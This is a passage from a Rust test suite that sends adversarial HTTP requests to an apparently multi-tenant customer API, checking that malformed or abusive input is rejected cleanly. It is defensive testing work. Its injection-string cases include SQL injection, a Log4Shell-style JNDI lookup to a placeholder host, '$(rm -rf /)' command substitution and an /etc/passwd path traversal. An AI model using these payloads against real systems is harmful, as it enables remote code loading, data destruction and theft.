//! The hostile-input corpus: well over 150 distinct bad (and a few
//! surprising but valid) requests against `updateCustomer` and
//! `createCustomer`, written byte for byte to a TCP socket so that no client
//! library cleans anything up.
//!
//! Every rejected request must get a 4xx whose JSON body has a `message`
//! naming the problem (a per-case substring), never a 5xx; the server must
//! stay up (`/healthz` after every case); and the tenant's data (every
//! customer and its ETag) must be byte-for-byte the same before and after all
//! rejected requests. The valid cases run afterwards, each on its own
//! customer, and must round-trip exactly (what was sent is what GET returns).

use std::time::Instant;

use serde_json::{json, Value};

use crate::helpers::*;
use crate::wire::*;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Op {
    Create,
    Update,
}

/// What a case must get.
#[derive(Clone, Debug)]
enum Expect {
    /// This 4xx, with a JSON `message` containing every needle (case-insensitive).
    Reject { status: u16, needles: Vec<String> },
    /// A 2xx: the input is valid. The stored customer must have this name and
    /// these fields (`Value::Null`: absent), and untouched server-managed fields.
    Valid { name: String, fields: Vec<(&'static str, Value)> },
}

#[derive(Clone, Debug)]
struct Case {
    name: String,
    op: Op,
    /// The request target; `{id}` is replaced by the customer the case runs on.
    target: Vec<u8>,
    /// Every header after `Host` and `Connection` (`Content-Length` is added
    /// unless one of these frames the body).
    headers: Vec<(String, Vec<u8>)>,
    body: Vec<u8>,
    expect: Expect,
    /// The answer comes from dropshot's router (404/405, bad path encoding),
    /// whose body has `request_id` and `error_code` besides `message`.
    router: bool,
    /// Not a well-formed HTTP/1.1 message: hyper answers before dropshot
    /// sees it, with a status and no body (there is no JSON to check).
    protocol: bool,
}

impl Case {
    fn new(op: Op, name: impl Into<String>, body: impl Into<Vec<u8>>) -> Case {
        let target = match op {
            Op::Create => b"/network/customers".to_vec(),
            Op::Update => b"/network/customers/{id}".to_vec(),
        };
        Case {
            name: name.into(),
            op,
            target,
            headers: vec![
                ("Authorization".into(), format!("Bearer {}", admin_token()).into_bytes()),
                ("X-Servitly-Tenant".into(), TENANT.as_bytes().to_vec()),
                ("Content-Type".into(), b"application/json".to_vec()),
            ],
            body: body.into(),
            expect: Expect::Reject { status: 400, needles: vec![] },
            router: false,
            protocol: false,
        }
    }

    fn reject(mut self, status: u16, needles: &[&str]) -> Case {
        self.expect =
            Expect::Reject { status, needles: needles.iter().map(|s| s.to_string()).collect() };
        self
    }

    fn valid(mut self, name: &str, fields: Vec<(&'static str, Value)>) -> Case {
        self.expect = Expect::Valid { name: name.to_string(), fields };
        self
    }

    fn target(mut self, target: impl Into<Vec<u8>>) -> Case {
        self.target = target.into();
        self
    }

    fn router(mut self) -> Case {
        self.router = true;
        self
    }

    fn protocol(mut self) -> Case {
        self.protocol = true;
        self
    }

    /// Replaces every header called `name` by one with `value`.
    fn set(mut self, name: &str, value: impl Into<Vec<u8>>) -> Case {
        self = self.remove(name);
        self.headers.push((name.to_string(), value.into()));
        self
    }

    /// Adds one more header (duplicates allowed).
    fn add(mut self, name: &str, value: impl Into<Vec<u8>>) -> Case {
        self.headers.push((name.to_string(), value.into()));
        self
    }

    fn remove(mut self, name: &str) -> Case {
        self.headers.retain(|(n, _)| !n.eq_ignore_ascii_case(name));
        self
    }

    /// Sends the body with `Transfer-Encoding: chunked` instead of `Content-Length`.
    fn chunked(mut self) -> Case {
        self.body = chunked(&self.body);
        self.add("Transfer-Encoding", "chunked")
    }

    fn is_valid(&self) -> bool {
        matches!(self.expect, Expect::Valid { .. })
    }

    fn request(&self, id: &str) -> Vec<u8> {
        let target = String::from_utf8_lossy(&self.target).replace("{id}", id);
        let target = if self.target.is_ascii() { target.into_bytes() } else { self.target.clone() };
        let headers: Vec<(&str, Vec<u8>)> =
            self.headers.iter().map(|(n, v)| (n.as_str(), v.clone())).collect();
        let method = match self.op {
            Op::Create => "POST",
            Op::Update => "PUT",
        };
        http_request(method, &target, &headers, &self.body)
    }
}

/// A body case: run against both operations.
struct BodyCase {
    name: String,
    body: Vec<u8>,
    expect: Expect,
}

fn bad(name: impl Into<String>, body: impl Into<Vec<u8>>, needles: &[&str]) -> BodyCase {
    BodyCase {
        name: name.into(),
        body: body.into(),
        expect: Expect::Reject {
            status: 400,
            needles: needles.iter().map(|s| s.to_string()).collect(),
        },
    }
}

fn good(name: impl Into<String>, body: impl Into<Vec<u8>>, stored_name: &str) -> BodyCase {
    good_with(name, body, stored_name, vec![])
}

fn good_with(
    name: impl Into<String>,
    body: impl Into<Vec<u8>>,
    stored_name: &str,
    fields: Vec<(&'static str, Value)>,
) -> BodyCase {
    BodyCase {
        name: name.into(),
        body: body.into(),
        expect: Expect::Valid { name: stored_name.to_string(), fields },
    }
}

/// `{"name": <name JSON>}` with extra members.
fn with_name(name: &str, rest: &str) -> Vec<u8> {
    let name = serde_json::to_string(name).unwrap();
    if rest.is_empty() {
        format!("{{\"name\":{name}}}").into_bytes()
    } else {
        format!("{{\"name\":{name},{rest}}}").into_bytes()
    }
}

/// A body of exactly `size` bytes: `{"name":"Limit"` + spaces + `}`.
fn padded(size: usize) -> Vec<u8> {
    let head = br#"{"name":"Limit""#;
    let mut body = head.to_vec();
    body.resize(size - 1, b' ');
    body.push(b'}');
    body
}

fn properties_json(count: usize, key: impl Fn(usize) -> String, value: &str) -> String {
    let map: serde_json::Map<String, Value> =
        (0..count).map(|i| (key(i), Value::String(value.to_string()))).collect();
    Value::Object(map).to_string()
}

const FULL: &str = r#"{"name":"Hostile Inc.","country":"IT","timezone":"Europe/Rome","properties":{"plan":"gold","tier":"1"}}"#;

/// Every body-level case; each runs against create and update.
fn body_cases() -> Vec<BodyCase> {
    let mut cases = Vec::new();
    let json = "JSON";

    // Malformed and truncated JSON.
    for (name, body) in [
        ("empty body", ""),
        ("only white space", "  \r\n\t "),
        ("lone opening brace", "{"),
        ("member without value", r#"{"name":"#),
        ("missing closing brace", r#"{"name":"Acme""#),
        ("unterminated string", r#"{"name":"Acme"#),
        ("trailing comma", r#"{"name":"Acme",}"#),
        ("trailing comma in properties", r#"{"name":"Acme","properties":{"a":"1",}}"#),
        ("unquoted key", r#"{name:"Acme"}"#),
        ("single quotes", r#"{'name':'Acme'}"#),
        ("trailing garbage", r#"{"name":"Acme"} garbage"#),
        ("two documents", r#"{"name":"Acme"}{"name":"Evil"}"#),
        ("comment", r#"{"name":"Acme" /* hi */}"#),
        ("NaN", r#"{"name":NaN}"#),
        ("Infinity timestamp", r#"{"name":"Acme","creationTimestamp":Infinity}"#),
        ("invalid escape", r#"{"name":"\x41"}"#),
        ("short unicode escape", r#"{"name":"\u12"}"#),
        ("missing colon", r#"{"name" "Acme"}"#),
        ("missing comma", r#"{"name":"Acme" "country":"IT"}"#),
        ("XML", "<customer><name>Acme</name></customer>"),
        ("form encoding", "name=Acme&country=IT"),
        ("array root", r#"[{"name":"Acme"}]"#),
        ("empty array root", "[]"),
        ("the object's fields by position", r#"["IT",null,null,null,"Positional",null,null]"#),
        ("the fields by position, name only", r#"[null,null,null,null,"Positional",null,null]"#),
        ("string root", r#""Acme""#),
        ("null root", "null"),
        ("number root", "42"),
        ("boolean root", "true"),
        ("empty object (name is required)", "{}"),
        ("only optional fields", r#"{"country":"IT","timezone":"Europe/Rome"}"#),
    ] {
        let needles: &[&str] =
            if name.contains("name is required") || name == "only optional fields" {
                &["name"]
            } else if name.contains("by position") || name.contains("array root") {
                &["sequence", "expected struct"]
            } else if name.starts_with("trailing garbage") || name == "two documents" {
                &["trailing characters"]
            } else {
                &[json]
            };
        cases.push(bad(name, body, needles));
    }
    for cut in [2, 9, 30, 60, 90, FULL.len() - 1] {
        cases.push(bad(
            format!("full body truncated at byte {cut}"),
            &FULL.as_bytes()[..cut],
            &[json],
        ));
    }
    cases.push(bad(
        "UTF-8 BOM before the JSON",
        [b"\xEF\xBB\xBF".as_slice(), FULL.as_bytes()].concat(),
        &[json],
    ));
    cases.push(bad(
        "trailing NUL byte",
        [FULL.as_bytes(), b"\0"].concat(),
        &["trailing characters"],
    ));
    cases.push(bad(
        "trailing comma after the document",
        format!("{FULL},"),
        &["trailing characters"],
    ));

    // Wrong types for every field.
    let wrong = ["123", "-1.5", "true", "false", "[]", r#"["x"]"#, "{}", r#"{"x":"y"}"#];
    for value in wrong {
        cases.push(bad(format!("name is {value}"), format!(r#"{{"name":{value}}}"#), &["name"]));
        cases.push(bad(
            format!("country is {value}"),
            with_name("Acme", &format!(r#""country":{value}"#)),
            &["country"],
        ));
        cases.push(bad(
            format!("timezone is {value}"),
            with_name("Acme", &format!(r#""timezone":{value}"#)),
            &["timezone"],
        ));
    }
    for value in ["123", "-1.5", "true", "[]", r#"["a","b"]"#, r#"[["a","b"]]"#, r#""a=b""#] {
        cases.push(bad(
            format!("properties is {value}"),
            with_name("Acme", &format!(r#""properties":{value}"#)),
            &["properties"],
        ));
    }
    for value in ["123", "-1.5", "true", "null", "[]", "{}", r#"["v"]"#] {
        cases.push(bad(
            format!("a property value is {value}"),
            with_name("Acme", &format!(r#""properties":{{"k":{value}}}"#)),
            &["properties"],
        ));
    }
    for field in ["creationTimestamp", "firstAccessTimestamp", "lastAccessTimestamp"] {
        for value in [r#""1700000000000""#, "1.5", "true", "[]", "{}", r#""yesterday""#] {
            cases.push(bad(
                format!("{field} is {value}"),
                with_name("Acme", &format!(r#""{field}":{value}"#)),
                &[field],
            ));
        }
    }
    // `id` is not part of CustomerDetails: the server ignores it, whatever its type
    // (but not twice: no object may repeat a key).
    for value in ["123", r#"{"$gt":""}"#, r#""someone-else""#, "null"] {
        cases.push(good(
            format!("server-managed id {value} is ignored"),
            with_name("Id Ignored", &format!(r#""id":{value}"#)),
            "Id Ignored",
        ));
    }

    // Nulls.
    cases.push(bad("name is null", r#"{"name":null}"#, &["name"]));
    cases.push(bad(
        "everything null",
        r#"{"name":null,"country":null,"timezone":null,"properties":null}"#,
        &["name"],
    ));
    // Optional properties are not nullable in the spec: null is not "absent".
    for field in [
        "country",
        "timezone",
        "properties",
        "creationTimestamp",
        "firstAccessTimestamp",
        "lastAccessTimestamp",
    ] {
        cases.push(bad(
            format!("{field} is null"),
            with_name("Acme", &format!(r#""{field}":null"#)),
            &[field, "null"],
        ));
    }

    // Huge numbers.
    for value in [
        "1e400",
        "-1e400",
        "18446744073709551616",
        "9223372036854775808",
        "-9223372036854775809",
        "1e19",
        "123456789012345678901234567890",
    ] {
        cases.push(bad(
            format!("creationTimestamp is {value}"),
            with_name("Acme", &format!(r#""creationTimestamp":{value}"#)),
            &["creationTimestamp"],
        ));
    }
    cases.push(bad(
        "firstAccessTimestamp is 1e400",
        with_name("Acme", r#""firstAccessTimestamp":1e400"#),
        &["firstAccessTimestamp"],
    ));
    cases.push(bad(
        "lastAccessTimestamp is 2^64",
        with_name("Acme", r#""lastAccessTimestamp":18446744073709551616"#),
        &["lastAccessTimestamp"],
    ));
    cases.push(bad("name is 1e400", r#"{"name":1e400}"#, &["name"]));
    cases.push(bad(
        "a property value is 1e400",
        with_name("Acme", r#""properties":{"k":1e400}"#),
        &["properties"],
    ));
    cases.push(bad(
        "name is a 5000-digit number",
        format!(r#"{{"name":{}}}"#, "9".repeat(5000)),
        &["name"],
    ));
    // In range int64 values are well-typed: accepted and ignored (server-managed).
    cases.push(good(
        "creationTimestamp i64::MAX is ignored",
        with_name("Max Timestamp", r#""creationTimestamp":9223372036854775807"#),
        "Max Timestamp",
    ));
    cases.push(good("timestamps i64::MIN are ignored", with_name("Min Timestamp", r#""creationTimestamp":-9223372036854775808,"firstAccessTimestamp":-9223372036854775808,"lastAccessTimestamp":0"#), "Min Timestamp"));

    // Deep nesting.
    let deep_arrays = "[".repeat(10_000);
    let deep_objects = r#"{"a":"#.repeat(10_000);
    let balanced = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    cases.push(bad("10k [ at the root", deep_arrays.clone(), &["sequence", "expected struct"]));
    cases.push(bad(
        "10k balanced [] at the root",
        balanced.clone(),
        &["sequence", "expected struct"],
    ));
    cases.push(bad("10k nested objects at the root", deep_objects.clone(), &[json]));
    cases.push(bad("10k [ as the name", format!(r#"{{"name":{deep_arrays}"#), &["name"]));
    cases.push(bad(
        "10k nested objects in properties",
        format!(r#"{{"name":"Acme","properties":{deep_objects}"#),
        &["properties"],
    ));
    cases.push(bad(
        "10k [ as a property value",
        format!(r#"{{"name":"Acme","properties":{{"k":{deep_arrays}}}}}"#),
        &["properties"],
    ));
    cases.push(bad(
        "10k [ in an unknown member (unbalanced)",
        format!(r#"{{"name":"Acme","extra":{deep_arrays}}}"#),
        &["extra"],
    ));
    // An unknown member is ignored, however deep (serde skips it without recursing).
    cases.push(good(
        "10k balanced [] in an unknown member are ignored",
        format!(r#"{{"name":"Deep Extra","extra":{balanced}}}"#),
        "Deep Extra",
    ));
    cases.push(good(
        "100 nested arrays in an unknown member are ignored",
        format!(r#"{{"name":"Nested Extra","extra":{}{}}}"#, "[".repeat(100), "]".repeat(100)),
        "Nested Extra",
    ));

    // Bodies around the 256 KiB limit.
    let limit = 262_144;
    cases.push(good("body of exactly 256 KiB", padded(limit), "Limit"));
    cases.push(good("body one byte under 256 KiB", padded(limit - 1), "Limit"));
    cases.push(bad("body one byte over 256 KiB", padded(limit + 1), &["262144"]));
    cases.push(bad("body of 1 MiB", padded(1024 * 1024), &["262144"]));
    let big = properties_json(200, |i| format!("k{i}"), &"v".repeat(4096));
    cases.push(bad(
        "200 properties of 4096 characters (over the body limit)",
        with_name("Acme", &format!(r#""properties":{big}"#)),
        &["262144"],
    ));

    // Oversize strings and maps.
    cases.push(bad("name of 256 characters", with_name(&"n".repeat(256), ""), &["name", "255"]));
    cases.push(bad("name of 256 emoji", with_name(&"🦀".repeat(256), ""), &["name", "255"]));
    cases.push(bad(
        "name of 128 decomposed é (256 characters)",
        with_name(&"e\u{301}".repeat(128), ""),
        &["name", "255"],
    ));
    cases.push(bad(
        "name of 10000 characters",
        with_name(&"n".repeat(10_000), ""),
        &["name", "255"],
    ));
    cases.push(good("name of 255 characters", with_name(&"n".repeat(255), ""), &"n".repeat(255)));
    cases.push(good("name of 255 emoji", with_name(&"🦀".repeat(255), ""), &"🦀".repeat(255)));
    let props = |count: usize| properties_json(count, |i| format!("key{i:03}"), "v");
    cases.push(bad(
        "201 properties",
        with_name("Acme", &format!(r#""properties":{}"#, props(201))),
        &["properties", "200"],
    ));
    cases.push(bad(
        "1000 properties",
        with_name("Acme", &format!(r#""properties":{}"#, props(1000))),
        &["properties", "200"],
    ));
    let two_hundred: Value = serde_json::from_str(&props(200)).unwrap();
    cases.push(good_with(
        "exactly 200 properties",
        with_name("Two Hundred", &format!(r#""properties":{}"#, props(200))),
        "Two Hundred",
        vec![("properties", two_hundred)],
    ));
    let key129 = "k".repeat(129);
    let key128 = "k".repeat(128);
    cases.push(bad(
        "property key of 129 characters",
        with_name("Acme", &format!(r#""properties":{{"{key129}":"v"}}"#)),
        &["properties", "128"],
    ));
    cases.push(good_with(
        "property key of 128 characters",
        with_name("Key 128", &format!(r#""properties":{{"{key128}":"v"}}"#)),
        "Key 128",
        vec![("properties", json!({ key128.clone(): "v" }))],
    ));
    cases.push(bad(
        "empty property key",
        with_name("Acme", r#""properties":{"":"v"}"#),
        &["properties", "key"],
    ));
    cases.push(bad(
        "property value of 4097 characters",
        with_name("Acme", &format!(r#""properties":{{"k":"{}"}}"#, "v".repeat(4097))),
        &["properties", "4096"],
    ));
    cases.push(bad(
        "property value of 4097 é",
        with_name("Acme", &format!(r#""properties":{{"k":"{}"}}"#, "é".repeat(4097))),
        &["properties", "4096"],
    ));
    let v4096 = "é".repeat(4096);
    cases.push(good_with(
        "property value of 4096 é",
        with_name("Value 4096", &format!(r#""properties":{{"k":"{v4096}"}}"#)),
        "Value 4096",
        vec![("properties", json!({ "k": v4096.clone() }))],
    ));
    cases.push(bad(
        "timezone of 65 characters",
        with_name("Acme", &format!(r#""timezone":"{}""#, "Z".repeat(65))),
        &["timezone"],
    ));

    // Field values that are strings but not valid.
    for (field, value, needle) in [
        ("name", "", "name"),
        ("name", "   ", "name"),
        ("name", "\t\n\r", "name"),
        ("name", "\u{3000}\u{a0}", "name"),
        ("name", "\u{feff}", "name"),
        ("country", "", "country"),
        ("country", "it", "country"),
        ("country", "ITA", "country"),
        ("country", "XX", "country"),
        ("country", "I", "country"),
        ("country", "ＩＴ", "country"),
        ("country", "IT' OR '1'='1", "country"),
        ("timezone", "", "timezone"),
        ("timezone", "Europe/Atlantis", "timezone"),
        ("timezone", "+01:00", "timezone"),
        ("timezone", "../../../../etc/passwd", "timezone"),
        ("timezone", "Europe/Rome'; DROP TABLE customers;--", "timezone"),
    ] {
        let body = if field == "name" {
            with_name(value, "")
        } else {
            with_name("Acme", &format!("\"{field}\":{}", serde_json::to_string(value).unwrap()))
        };
        cases.push(bad(format!("{field} is {value:?}"), body, &[needle]));
    }

    // Invalid UTF-8.
    for (name, bytes) in [
        ("0xFF in the name", b"{\"name\":\"Acme \xFF\"}".as_slice()),
        ("truncated 2-byte sequence", b"{\"name\":\"Acme \xC3\x28\"}"),
        ("overlong encoding of /", b"{\"name\":\"Acme \xC0\xAF\"}"),
        ("UTF-8 encoded surrogate", b"{\"name\":\"Acme \xED\xA0\x80\"}"),
        ("truncated 3-byte sequence at the end", b"{\"name\":\"Acme \xE2\x82\"}"),
        ("code point above U+10FFFF", b"{\"name\":\"Acme \xF4\x90\x80\x80\"}"),
        ("invalid UTF-8 in a member name", b"{\"na\xFFme\":\"Acme\"}"),
        (
            "invalid UTF-8 in a property key",
            b"{\"name\":\"Acme\",\"properties\":{\"k\xFE\":\"v\"}}",
        ),
        (
            "invalid UTF-8 in a property value",
            b"{\"name\":\"Acme\",\"properties\":{\"k\":\"\x80\"}}",
        ),
        ("Latin-1 text", b"{\"name\":\"Caf\xE9\"}"),
        ("UTF-16 text", b"\xFF\xFE{\0\"\0n\0a\0m\0e\0\"\0:\0\"\0A\0\"\0}\0"),
    ] {
        cases.push(bad(format!("invalid UTF-8: {name}"), bytes.to_vec(), &[json]));
    }

    // NUL and control characters.
    for (name, bytes) in [
        ("raw NUL in the name", b"{\"name\":\"Ac\0me\"}".as_slice()),
        ("raw NUL between members", b"{\"name\":\"Acme\",\0\"country\":\"IT\"}"),
        ("raw 0x01 in the name", b"{\"name\":\"Ac\x01me\"}"),
        ("raw 0x1F in the name", b"{\"name\":\"Ac\x1Fme\"}"),
        ("raw line feed in the name", b"{\"name\":\"Ac\nme\"}"),
        ("raw tab in a property value", b"{\"name\":\"Acme\",\"properties\":{\"k\":\"a\tb\"}}"),
        (
            "raw carriage return in a property key",
            b"{\"name\":\"Acme\",\"properties\":{\"k\r\":\"v\"}}",
        ),
    ] {
        let needles: &[&str] =
            if name.contains("between members") { &[json] } else { &["control character"] };
        cases.push(bad(format!("control character: {name}"), bytes.to_vec(), needles));
    }
    cases.push(bad("escaped NUL in the name", r#"{"name":"Ac\u0000me"}"#, &["name", "NUL"]));
    cases.push(bad("name is only an escaped NUL", r#"{"name":"\u0000"}"#, &["name", "NUL"]));
    // A key may contain NUL: OpenAPI 3.0 cannot forbid it in a map's keys, so
    // it is schema-valid (issue 12), and both stores keep it.
    cases.push(good_with(
        "escaped NUL in a property key",
        r#"{"name":"Acme","properties":{"k\u0000":"v"}}"#,
        "Acme",
        vec![("properties", serde_json::json!({"k\u{0}": "v"}))],
    ));
    cases.push(bad(
        "escaped NUL in a property value",
        r#"{"name":"Acme","properties":{"k":"v\u0000"}}"#,
        &["properties", "NUL"],
    ));
    cases.push(bad(
        "escaped NUL in the country",
        r#"{"name":"Acme","country":"I\u0000"}"#,
        &["country"],
    ));
    cases.push(bad(
        "escaped NUL in the timezone",
        r#"{"name":"Acme","timezone":"Europe/Rome\u0000"}"#,
        &["timezone"],
    ));
    // Escaped control characters other than NUL are valid JSON strings and valid names.
    cases.push(good("escaped BEL in the name", r#"{"name":"Bell\u0007Corp"}"#, "Bell\u{7}Corp"));
    cases.push(good(
        "ANSI escape sequence in the name",
        r#"{"name":"\u001b[31mRed Corp\u001b[0m"}"#,
        "\u{1b}[31mRed Corp\u{1b}[0m",
    ));
    cases.push(good("escaped line feed in the name", r#"{"name":"Acme\nInc."}"#, "Acme\nInc."));
    cases.push(good(
        "raw DEL in the name",
        b"{\"name\":\"Del\x7FCorp\"}".to_vec(),
        "Del\u{7f}Corp",
    ));

    // Unicode edge cases.
    for (label, text) in [
        ("combining marks", "Z\u{335}\u{327}\u{34e}a\u{337}l\u{336}g\u{335}o Corp"),
        ("right-to-left override", "\u{202e}gnp.exe Corp"),
        ("emoji with ZWJ sequences", "👨‍👩‍👧‍👦 Family 🏳️‍🌈 Corp 🦀"),
        ("decomposed é (NFD kept as sent)", "Cafe\u{301}"),
        ("noncharacter U+FFFF", "Non\u{ffff}char"),
        ("U+10FFFF", "Last\u{10ffff}"),
        ("zero-width space only", "\u{200b}"),
        ("Arabic and Hebrew", "شركة אקמה"),
    ] {
        cases.push(good(format!("unicode: {label}"), with_name(text, ""), text));
    }
    cases.push(good("escaped surrogate pair", r#"{"name":"Crab \ud83e\udd80"}"#, "Crab 🦀"));
    for (label, escaped) in [
        ("lone high surrogate", r#"\ud800"#),
        ("lone low surrogate", r#"\udc00"#),
        ("high surrogate then a letter", r#"\ud800A"#),
        ("two high surrogates", r#"\ud800\ud800"#),
        ("reversed surrogate pair", r#"\udd80\ud83e"#),
    ] {
        cases.push(bad(
            format!("escaped {label} in the name"),
            format!(r#"{{"name":"x{escaped}"}}"#),
            &["name", "escape"],
        ));
    }
    cases.push(bad(
        "escaped lone surrogate in a property key",
        r#"{"name":"Acme","properties":{"\ud800":"v"}}"#,
        &["properties", "escape"],
    ));
    cases.push(bad(
        "escaped lone surrogate in a property value",
        r#"{"name":"Acme","properties":{"k":"\udfff"}}"#,
        &["properties.k", "escape"],
    ));

    // Duplicate JSON keys.
    cases.push(bad("duplicate name", r#"{"name":"Acme","name":"Evil"}"#, &["duplicate", "name"]));
    cases.push(bad(
        "duplicate country",
        r#"{"name":"Acme","country":"IT","country":"FR"}"#,
        &["duplicate", "country"],
    ));
    cases.push(bad(
        "duplicate timezone",
        r#"{"name":"Acme","timezone":"UTC","timezone":"Europe/Rome"}"#,
        &["duplicate", "timezone"],
    ));
    cases.push(bad(
        "duplicate properties",
        r#"{"name":"Acme","properties":{},"properties":{"a":"b"}}"#,
        &["duplicate", "properties"],
    ));
    cases.push(bad(
        "duplicate creationTimestamp",
        r#"{"name":"Acme","creationTimestamp":1,"creationTimestamp":2}"#,
        &["duplicate", "creationTimestamp"],
    ));
    cases.push(bad(
        "duplicate property key",
        r#"{"name":"Acme","properties":{"k":"1","k":"2"}}"#,
        &["duplicate", "properties.k"],
    ));
    cases.push(bad(
        "duplicate property key, escaped differently",
        r#"{"name":"Acme","properties":{"k":"1","\u006b":"2"}}"#,
        &["duplicate", "properties.k"],
    ));
    cases.push(bad(
        "duplicate unknown member",
        r#"{"name":"Acme","id":"a","id":"b"}"#,
        &["duplicate", "id"],
    ));
    // Unknown members are skipped unread, duplicates inside them included.
    cases.push(good(
        "duplicate key inside an unknown member is ignored with it",
        r#"{"name":"Ignored Dup","extra":{"a":1,"a":2}}"#,
        "Ignored Dup",
    ));

    // SQL and template injection: valid names, stored and returned verbatim.
    for text in [
        "'; DROP TABLE customers;--",
        "Robert'); DROP TABLE customers;--",
        "' OR '1'='1",
        "1; SELECT * FROM customers WHERE '1'='1",
        "\" OR \"\"=\"",
        "{{7*7}}",
        "${7*7}",
        "${jndi:ldap://evil.example/a}",
        "<%= 7*7 %>",
        "#{7*7}",
        "<script>alert(1)</script>",
        "%s%s%s%n",
        "$(rm -rf /)",
        "../../../../etc/passwd",
        "\\\"\\u0000\\",
    ] {
        cases.push(good(format!("injection as the name: {text}"), with_name(text, ""), text));
    }
    cases.push(good_with(
        "injection in property keys and values",
        with_name("Props Injection", r#""properties":{"'; DROP TABLE customers;--":"{{7*7}}","${jndi:ldap://x/a}":"<script>","__proto__":"polluted","$where":"1==1"}"#),
        "Props Injection",
        vec![("properties", json!({"'; DROP TABLE customers;--":"{{7*7}}","${jndi:ldap://x/a}":"<script>","__proto__":"polluted","$where":"1==1"}))],
    ));
    cases
}

/// Cases about the request around the body: content types, headers, paths.
fn request_cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let valid = with_name("Pwned", "");
    let globex = format!("Bearer {}", mint(&claims(OTHER_TENANT, "g", ALL)));

    for op in [Op::Create, Op::Update] {
        let case = |name: &str| Case::new(op, format!("{name} ({op:?})"), valid.clone());
        // Content types.
        for content_type in [
            "text/plain",
            "text/json",
            "application/xml",
            "application/octet-stream",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=xyz",
            "application/jsonx",
            "application/json, text/plain",
            "",
            "json",
            "application/merge-patch+json",
            "application/json-patch+json",
        ] {
            cases.push(
                case(&format!("Content-Type {content_type:?}"))
                    .set("Content-Type", content_type)
                    .reject(400, &["content"]),
            );
        }
        cases.push(
            case("Content-Type with Latin-1 bytes")
                .set("Content-Type", b"application/json; charset=\xE9".to_vec())
                .reject(400, &["content-type", "ASCII"]),
        );
        cases.push(
            case("missing Content-Type")
                .remove("Content-Type")
                .reject(400, &["missing Content-Type"]),
        );
        cases.push(
            case("two Content-Type headers (text/plain first)")
                .set("Content-Type", "text/plain")
                .add("Content-Type", "application/json")
                .reject(400, &["more than one Content-Type"]),
        );
        cases.push(
            case("two Content-Type headers (application/json first)")
                .add("Content-Type", "text/plain")
                .reject(400, &["more than one Content-Type"]),
        );
        cases.push(
            case("two identical Content-Type headers")
                .add("Content-Type", "application/json")
                .reject(400, &["more than one Content-Type"]),
        );
        cases.push(
            Case::new(op, format!("form body as form content type ({op:?})"), "name=Pwned")
                .set("Content-Type", "application/x-www-form-urlencoded")
                .reject(400, &["Content-Type"]),
        );
        cases.push(
            Case::new(
                op,
                format!("JSON Patch document ({op:?})"),
                r#"[{"op":"replace","path":"/name","value":"Pwned"}]"#,
            )
            .set("Content-Type", "application/json-patch+json")
            .reject(400, &["content"]),
        );
        // Valid variants of the content type.
        for content_type in [
            "application/json; charset=utf-8",
            "APPLICATION/JSON",
            "application/json ; charset=\"UTF-8\"",
        ] {
            cases.push(
                Case::new(
                    op,
                    format!("Content-Type {content_type:?} ({op:?})"),
                    with_name("Content Type OK", ""),
                )
                .set("Content-Type", content_type)
                .valid("Content Type OK", vec![]),
            );
        }
        cases.push(
            Case::new(op, format!("chunked body ({op:?})"), with_name("Chunked", ""))
                .chunked()
                .valid("Chunked", vec![]),
        );
        cases.push(
            Case::new(op, format!("chunked body over 256 KiB ({op:?})"), padded(262_145))
                .chunked()
                .reject(400, &["262144"]),
        );
        // Content-Length shorter than what follows: the body is cut.
        cases.push(
            case("Content-Length shorter than the body")
                .add("Content-Length", "9")
                .reject(400, &["JSON"]),
        );

        // Tenant header.
        cases.push(
            case("missing X-Servitly-Tenant")
                .remove("X-Servitly-Tenant")
                .reject(400, &["X-Servitly-Tenant"]),
        );
        cases.push(
            case("empty X-Servitly-Tenant").set("X-Servitly-Tenant", "").reject(403, &["tenant"]),
        );
        cases.push(
            case("X-Servitly-Tenant in upper case")
                .set("X-Servitly-Tenant", "ACME")
                .reject(403, &["tenant"]),
        );
        cases.push(
            case("X-Servitly-Tenant with Latin-1 bytes")
                .set("X-Servitly-Tenant", b"acm\xE9".to_vec())
                .reject(403, &["tenant"]),
        );
        cases.push(
            case("two X-Servitly-Tenant headers (same)")
                .add("X-Servitly-Tenant", TENANT)
                .reject(400, &["X-Servitly-Tenant", "once"]),
        );
        cases.push(
            case("two X-Servitly-Tenant headers (victim, other)")
                .add("X-Servitly-Tenant", OTHER_TENANT)
                .reject(403, &["tenant"]),
        );
        cases.push(
            case("two X-Servitly-Tenant headers (other, victim)")
                .set("X-Servitly-Tenant", OTHER_TENANT)
                .add("X-Servitly-Tenant", TENANT)
                .reject(403, &["tenant"]),
        );
        cases.push(
            case("other tenant's token, two X-Servitly-Tenant headers (its own, then the victim)")
                .set("Authorization", globex.clone())
                .set("X-Servitly-Tenant", OTHER_TENANT)
                .add("X-Servitly-Tenant", TENANT)
                .reject(403, &["tenant"]),
        );
        cases.push(
            case("64 KB X-Servitly-Tenant")
                .set("X-Servitly-Tenant", "a".repeat(64 * 1024))
                .reject(403, &["tenant"]),
        );
        // Authorization.
        let twice = ["more than one Authorization header"];
        cases.push(
            case("two Authorization headers (valid, garbage)")
                .add("Authorization", "Bearer garbage")
                .reject(401, &twice),
        );
        cases.push(
            case("two Authorization headers (garbage, valid)")
                .set("Authorization", "Bearer garbage")
                .add("Authorization", format!("Bearer {}", admin_token()))
                .reject(401, &twice),
        );
        cases.push(
            case("two identical Authorization headers")
                .add("Authorization", format!("Bearer {}", admin_token()))
                .reject(401, &twice),
        );
        cases.push(
            case("two Authorization headers (victim's, other tenant's)")
                .add("Authorization", globex.clone())
                .reject(401, &twice),
        );
        cases.push(
            case("Authorization with Latin-1 bytes")
                .set("Authorization", b"Bearer \xE9".to_vec())
                .reject(401, &["Authorization"]),
        );
        cases.push(
            case("64 KB Authorization")
                .set("Authorization", format!("Bearer {}", "a".repeat(64 * 1024)))
                .reject(401, &["too large"]),
        );
        // Other headers.
        cases.push(
            Case::new(op, format!("64 KB unknown header ({op:?})"), with_name("Big Header", ""))
                .add("X-Padding", "p".repeat(64 * 1024))
                .valid("Big Header", vec![]),
        );
        cases.push(
            case("unknown header with Latin-1 bytes")
                .add("X-Note", b"caf\xE9".to_vec())
                .reject(400, &["x-note", "ASCII"]),
        );
    }

    // Update only: If-Match and the customer id in the path.
    let update = |name: &str| Case::new(Op::Update, name.to_string(), valid.clone());
    // Malformed HTTP framing and syntax (hyper's own 4xx, without a body).
    for (name, case) in [
        ("Content-Length that is not a number", update("x").add("Content-Length", "abc")),
